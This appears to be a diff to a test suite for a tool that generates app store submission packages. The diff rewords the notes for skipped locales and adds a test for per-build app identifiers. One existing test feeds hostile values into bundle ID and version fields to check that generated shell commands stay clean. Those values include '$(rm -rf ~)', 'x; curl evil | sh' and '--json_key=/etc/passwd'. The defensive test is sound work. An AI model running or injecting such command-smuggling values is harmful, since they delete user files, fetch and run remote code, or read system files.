@@ -86,11 +86,11 @@ describe('submissionPackage', () => {
       submissionDraft({ listings: { 'en-US': listing(), 'or-IN': listing(), af: listing() } }),
     );
     expect(made.notes).toEqual([
-      'Afrikaans: left out, the App Store does not offer this locale.',
-      'Odia (ଓଡ଼ିଆ): left out, Google Play does not offer this locale.',
-      'Odia (ଓଡ଼ିଆ): left out, EAS Metadata does not offer this locale.',
+      'Not offered by the App Store and left out: Afrikaans.',
+      'Not offered by Google Play and left out: Odia.',
+      'Not offered by EAS Metadata and left out: Odia.',
     ]);
-    expect(textOf(made, 'README.md')).toContain('- Afrikaans: left out');
+    expect(textOf(made, 'README.md')).toContain('- Not offered by the App Store and left out: Afrikaans.');
   });
 });
 
@@ -183,6 +183,21 @@ describe('README.md', () => {
     expect(readme.includes('fastlane deliver')).toBe(platform !== 'android');
   });
 
+  it('names the app as each build does', () => {
+    const identity = { bundleId: 'com.example.lantern.droid', buildNumber: '52' };
+    const made = make({}, submissionDraft({ builds: [iosBuild(), androidBuild({ identity })] }));
+    expect(readmeOf(made)).toContain('--app_identifier com.example.lantern --');
+    expect(readmeOf(made)).toContain('--package_name com.example.lantern.droid --');
+    expect(jsonOf(made, 'eas.json')).toMatchObject({
+      submit: {
+        production: {
+          ios: { bundleIdentifier: 'com.example.lantern' },
+          android: { applicationId: 'com.example.lantern.droid' },
+        },
+      },
+    });
+  });
+
   it('names an APK where the build is one', () => {
     const draft = submissionDraft({
       builds: [iosBuild(), androidBuild({ kind: 'apk', fileName: 'app.apk' })],
@@ -193,7 +208,7 @@ describe('README.md', () => {
   it.each(['$(rm -rf ~)', '`id`', 'x; curl evil | sh', '--json_key=/etc/passwd', 'a\nrm -rf ~', 'a"b\'c'])(
     'puts nothing into a command that a shell would run: %j',
     (hostile) => {
-      const readme = readmeOf(make({}, submissionDraft({ bundleId: hostile, version: hostile })));
+      const readme = readmeOf(make({}, submissionDraft({ bundleId: hostile, version: hostile, builds: [] })));
       const commands = readme.match(/```sh\n[^`]*```/g) ?? [];
       expect(commands.length).toBeGreaterThan(1);
       for (const command of commands) expect(command.slice(6, -3)).toMatch(/^[A-Za-z0-9 ._+\-:/<>\n]*$/);
